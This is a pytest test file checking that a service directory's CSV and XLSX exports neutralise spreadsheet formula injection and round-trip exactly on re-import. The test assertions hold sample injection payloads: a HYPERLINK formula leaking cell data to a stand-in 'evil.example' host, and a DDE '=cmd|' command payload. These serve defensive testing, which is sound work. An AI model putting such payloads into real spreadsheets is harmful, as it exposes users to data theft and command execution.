"""Spreadsheet exports never hand a spreadsheet program a formula: CSV cells that start with =, +, -, @,
tab or carriage return get a leading quote (OWASP), XLSX cells are stored as text marked quotePrefix.
And what the curator typed comes back when the export is imported again."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from navigator.config import Settings
from navigator.export.run import export
from navigator.ingest.pipeline import import_paths
from navigator.store import models as m
from navigator.store.db import Store
from navigator.util.cells import needs_neutralising, neutralise, restore

FIXTURE = Path(__file__).parent / "fixtures" / "export" / "formulas.csv"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("+44 1632 960000", "'+44 1632 960000"),
        ("-Step-free access", "'-Step-free access"),
        ("@home", "'@home"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturn", "'\rReturn"),
        ("  =1+2", "'  =1+2"),  # spreadsheets skip leading spaces before deciding
        ("'=already quoted", "''=already quoted"),  # escaped once more, so restoring is exact
        ("-2.5891", "-2.5891"),  # a plain number is a number, not a formula
        ("-1+2", "'-1+2"),
        ("Tea & chat", "Tea & chat"),
        ("", ""),
        ("it's =fine", "it's =fine"),
    ],
)
def test_neutralise(value: str, expected: str) -> None:
    assert neutralise(value) == expected
    assert restore(expected) == value


@given(st.text(alphabet=st.sampled_from(list("=+-@'\t\r 1.aZ")), max_size=8))
def test_restore_is_the_exact_inverse(value: str) -> None:
    assert restore(neutralise(value)) == value
    assert not needs_neutralising(neutralise(value).removeprefix("'")) or neutralise(value).startswith("'")


def records(store: Store) -> dict[str, dict[str, Any]]:
    with store.read() as session:
        return {s.source_id: dict(s.record_json) for s in session.scalars(select(m.Service))}


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> tuple[Store, dict[str, dict[str, Any]]]:
    settings = Settings(data_dir=tmp_path_factory.mktemp("formulas") / "data")
    store = Store.open(settings)
    import_paths(store, [FIXTURE], settings=settings, source="formulas")
    return store, records(store)


def reimport(path: Path, tmp_path: Path) -> dict[str, dict[str, Any]]:
    settings = Settings(data_dir=tmp_path / "back")
    store = Store.open(settings)
    report = import_paths(store, [path], settings=settings, source="formulas")
    assert report.rejected == []
    return records(store)


def test_csv_cells_cannot_start_a_formula(original: tuple[Store, Any], tmp_path: Path) -> None:
    target = tmp_path / "services.csv"
    export(original[0], "spreadsheet", target)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # "CSV UTF-8", so Excel reads the accents right
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines(keepends=True)))
    first = next(r for r in rows if r["service_id"] == "F-001")
    for column, value in first.items():
        bare = value.lstrip(" ")
        assert not bare.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "-2.5626", (column, value)
    assert first["service_name"] == '\'=HYPERLINK("https://evil.example/?leak="&A1;"Click for help")'
    assert first["phone"] == "'+33 1 23 45 67 89; 01632 960777"
    assert first["organisation"] == "'@home Community Trust"
    assert first["longitude"] == "-2.5626"
    assert first["Internal note"] == "'=cmd|' /C calc'!A0"
    assert first["opening_notes"] == "'=1+2 is not a time"
    assert first["categories"] == "'+Plus; Food"
    plain = next(r for r in rows if r["service_id"] == "F-002")
    assert not any(v.startswith("'") for v in plain.values())


def test_xlsx_cells_are_text_and_unchanged(original: tuple[Store, Any], tmp_path: Path) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "services.xlsx"
    export(original[0], "spreadsheet", target, xlsx=True)
    sheet = load_workbook(target)["services"]
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert row["service_id"].value == "F-001"
    assert row["service_name"].value.startswith("=HYPERLINK(")  # the text itself, no quote added
    assert row["service_name"].data_type == "s" and row["service_name"].quotePrefix
    assert all(c.data_type == "s" for c in sheet[2] if c.value is not None)
    assert all(c.quotePrefix for c in sheet[2] if c.value)


def test_xlsx_round_trip_is_exact(original: tuple[Store, dict[str, Any]], tmp_path: Path) -> None:
    target = tmp_path / "services.xlsx"
    export(original[0], "spreadsheet", target, xlsx=True)
    assert reimport(target, tmp_path) == original[1]


def test_csv_round_trip_restores_phone_numbers(
    original: tuple[Store, dict[str, Any]], tmp_path: Path
) -> None:
    """A phone cell starting with + is neutralised, and the phone reader finds the number again."""
    target = tmp_path / "services.csv"
    export(original[0], "spreadsheet", target)
    back = reimport(target, tmp_path)
    assert back["F-001"]["phones"] == original[1]["F-001"]["phones"]
    assert back["F-001"]["phones"][0]["number"] == "+33123456789"
    assert back["F-001"]["locations"][0]["longitude"] == -2.5626
    assert back["F-002"] == original[1]["F-002"]


def test_csv_round_trip_restores_neutralised_text(
    original: tuple[Store, dict[str, Any]], tmp_path: Path
) -> None:
    target = tmp_path / "services.csv"
    export(original[0], "spreadsheet", target)
    assert reimport(target, tmp_path) == original[1]
